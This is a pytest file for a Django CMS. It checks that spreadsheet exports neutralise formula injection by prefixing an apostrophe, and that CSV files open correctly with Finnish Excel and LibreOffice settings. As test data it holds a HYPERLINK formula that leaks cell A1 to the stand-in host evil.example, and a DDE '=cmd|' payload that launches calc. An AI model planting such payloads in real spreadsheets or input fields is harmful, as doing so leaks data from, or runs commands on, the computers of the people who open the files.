"""Every spreadsheet export keeps hostile text inert: a cell that would run as a formula in
Excel or LibreOffice starts with an apostrophe (CSV and XLSX; issue 13)."""

import io
import shutil
import subprocess

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation

from cms.exports import csv_delimiter, csv_text, formula_escape, spreadsheet_response
from tests.factories import (
    CoursePageFactory,
    CrisisCentreFactory,
    EnrolmentFactory,
    ExpertFactory,
    GroupFactory,
)
from tests.spreadsheets import BOM, finnish_excel_dicts, finnish_excel_rows

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def admin(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("k", "k@example.invalid", "x"))
    return client


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in finnish_excel_rows(content) for cell in row]


def xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+358401234567", "'+358401234567"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("Anna = Anni", "Anna = Anni"),
        (12, 12),
    ],
)
def test_formula_escape(value, escaped):
    assert formula_escape(value) == escaped


def test_roster_export_escapes_what_participants_typed(admin, site_tree):
    group = GroupFactory()
    EnrolmentFactory(group=group, display_name=EVIL, accessibility_needs="@cmd")
    url = reverse("groups_roster_export")

    cells = csv_cells(admin.get(url, {"format": "csv"}).content)
    assert "'" + EVIL in cells and "'@cmd" in cells
    assert EVIL not in cells

    cells = xlsx_cells(admin.get(url, {"format": "xlsx"}).content)
    assert "'" + EVIL in cells and EVIL not in cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_report_export_escapes_course_titles(admin, site_tree, fmt):
    GroupFactory(course=CoursePageFactory(title="=2+5"), status="running")
    response = admin.get(f"/admin/reports/groups/?by=course&format={fmt}")
    cells = csv_cells(response.content) if fmt == "csv" else xlsx_cells(response.content)
    assert "'=2+5" in cells and "=2+5" not in cells


def test_group_list_export_escapes_names(admin, site_tree):
    GroupFactory(name="=cmd|' /C calc'!A0")
    export = admin.get(reverse("groups_group:index"), {"export": "csv"})
    cells = csv_cells(b"".join(export.streaming_content))
    assert "'=cmd|' /C calc'!A0" in cells


def test_crisis_centre_export_escapes_names(admin, site_tree):
    CrisisCentreFactory(name="+Kriisikeskus", city="-Oulu")
    export = admin.get(reverse("wagtailsnippets_cms_crisiscentre:list"), {"export": "csv"})
    cells = csv_cells(b"".join(export.streaming_content))
    assert "'+Kriisikeskus" in cells and "'-Oulu" in cells


# Downloads that open right in a spreadsheet program with Finnish settings (issue 24) --------


def test_csv_has_a_bom_and_the_delimiter_of_the_users_language():
    header, body = ["Nimi", "Paikkakunta"], [["Äijälä, Åsa", "Järvenpää"]]
    with translation.override("fi"):
        finnish = csv_text(header, body).encode()
    with translation.override("sv"):
        assert csv_delimiter() == ";"
    with translation.override("en"):
        english = csv_text(header, body).encode()
    assert finnish_excel_rows(finnish) == [header, ["Äijälä, Åsa", "Järvenpää"]]
    assert english.startswith(BOM)
    assert english.decode("utf-8-sig").splitlines()[0] == "Nimi,Paikkakunta"


def test_without_a_format_every_download_is_xlsx(admin, site_tree):
    group = GroupFactory()
    EnrolmentFactory(group=group, display_name="Äijä")
    ExpertFactory(name="Åsa Öhman")
    for url in (reverse("groups_roster_export"), reverse("expert_network:export")):
        response = admin.get(url)
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        assert response["Content-Disposition"].endswith('.xlsx"')
    assert "Åsa Öhman" in xlsx_cells(admin.get(reverse("expert_network:export")).content)


@pytest.mark.parametrize(
    "url",
    [
        "/admin/reports/groups/?by=course&format=csv",
        "ROSTER",
        "EXPERTS",
    ],
)
def test_report_roster_and_expert_csv_open_in_finnish_excel(admin, site_tree, url):
    group = GroupFactory(course=CoursePageFactory(title="Läheisensä menettäneet"), status="running")
    EnrolmentFactory(group=group, display_name="Äijä")
    ExpertFactory(name="Åsa Öhman")
    url = {
        "ROSTER": reverse("groups_roster_export"),
        "EXPERTS": reverse("expert_network:export"),
    }.get(url, url)
    if "format" not in url:
        url += "?format=csv"
    rows = finnish_excel_rows(admin.get(url).content)
    assert len(rows[0]) > 2  # one column per field, not the whole line in column A
    assert {len(row) for row in rows} == {len(rows[0])}
    text = str(rows)
    assert "Läheisensä menettäneet" in text or "Äijä" in text or "Åsa Öhman" in text


@pytest.mark.parametrize(
    "url_name",
    ["groups_group:index", "wagtailsnippets_cms_crisiscentre:list"],
)
def test_wagtail_list_exports_open_in_finnish_excel(admin, site_tree, url_name):
    GroupFactory(name="Järvenpään ryhmä")
    CrisisCentreFactory(name="Kriisikeskus Mäntyharju", city="Mäntyharju")
    response = admin.get(reverse(url_name), {"export": "csv"})
    content = b"".join(response.streaming_content)
    rows = finnish_excel_dicts(content)
    assert rows and len(rows[0]) > 2
    assert "Järvenpään ryhmä" in str(rows) or "Mäntyharju" in str(rows)
    xlsx = admin.get(reverse(url_name), {"export": "xlsx"})
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_opens_the_xlsx_and_the_csv_with_finnish_settings(tmp_path):
    header, body = ["Nimi", "Paikat"], [["Äijälä, Åsa", 10], ["Östersundom", 8]]
    (tmp_path / "export.xlsx").write_bytes(spreadsheet_response(header, body, "xlsx", "x").content)
    with translation.override("fi"):
        (tmp_path / "export.csv").write_bytes(csv_text(header, body).encode())
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    for name in ("export.xlsx", "export.csv"):
        # 59 = ";" (what Finnish settings use), 34 = '"', 76 = UTF-8: the CSV filter of a
        # Finnish LibreOffice; the XLSX needs no options.
        target = "csv:Text - txt - csv (StarCalc):44,34,76"
        options = ["--infilter=CSV:59,34,76"] if name.endswith(".csv") else []
        out = tmp_path / name.replace(".", "-")
        subprocess.run(
            [
                shutil.which("soffice"),
                profile,
                "--headless",
                *options,
                "--convert-to",
                target,
                "--outdir",
                str(out),
                str(tmp_path / name),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )
        converted = next(out.iterdir()).read_text(encoding="utf-8")
        assert converted.splitlines() == ["Nimi,Paikat", '"Äijälä, Åsa",10', "Östersundom,8"]
